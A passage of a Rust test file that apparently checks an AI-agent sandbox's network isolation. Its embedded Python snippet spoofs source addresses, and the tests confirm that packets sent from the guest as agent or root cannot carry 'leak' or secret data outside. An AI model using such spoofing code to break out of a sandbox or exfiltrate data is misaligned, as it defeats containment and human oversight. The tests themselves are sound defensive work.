            s.setsockopt(level, option, 1)
            s.bind((source, 0))
            s.connect((target, port))
            s.send(b"SIGN")
            s.send(b"SIGN")
        except OSError as error:
            pass
"#;

#[test]
fn t45_refusals_of_packets_from_foreign_addresses_tell_nobody_outside() {
    let Some(rig) = Rig::new() else { return };
    let arrived = |since: Mark| {
        let packets = rig.world.packets_since(since);
        packets.into_iter().filter(|one| one["dst"] != "9.9.9.53").collect::<Vec<_>>()
    };
    let mark = rig.world.sync();
    python_outside(&rig, &SPOOFED.replace("SIGN", "control"));
    assert!(
        arrived(mark).iter().any(|one| one["src"] == host("evil_v6").as_str()),
        "a foreign source gets out"
    );
    let guest = rig.boot(&BoxOptions::new());
    // Who answers such a packet must not do so to the outside either.
    let server = serve(&rig, Some((&guest, AGENT)), &["tcp", "::", "8888", "udp", "::", "8889"]);
    for user in [AGENT, ROOT] {
        let mark = rig.world.sync();
        python(&guest, user, &SPOOFED.replace("SIGN", "leak"));
        assert_eq!(arrived(mark), [] as [Value; 0], "{user}");
    }
    assert!(!rig.world.saw("leak") && !rig.world.saw("secret of the box"));
    server.end();
}

#[test]
fn t38_an_open_port_answers_nobody_whom_the_agent_makes_up() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new().env("INNKEEPER_NETWORK_INBOUND", "8888"));
    let server = serve(&rig, Some((&guest, AGENT)), &["tcp", "::", "8888"]);
    assert_eq!(rig.world_client(&["tcp", "fd77::2", "8888", "hello"]).out, SECRET);
    for user in [AGENT, ROOT] {
        let mark = rig.world.sync();
        python(&guest, user, &SPOOFED.replace("SIGN", "leak"));
        only_questions_to(&rig, mark, "9.9.9.53");
    }
    server.end();
}
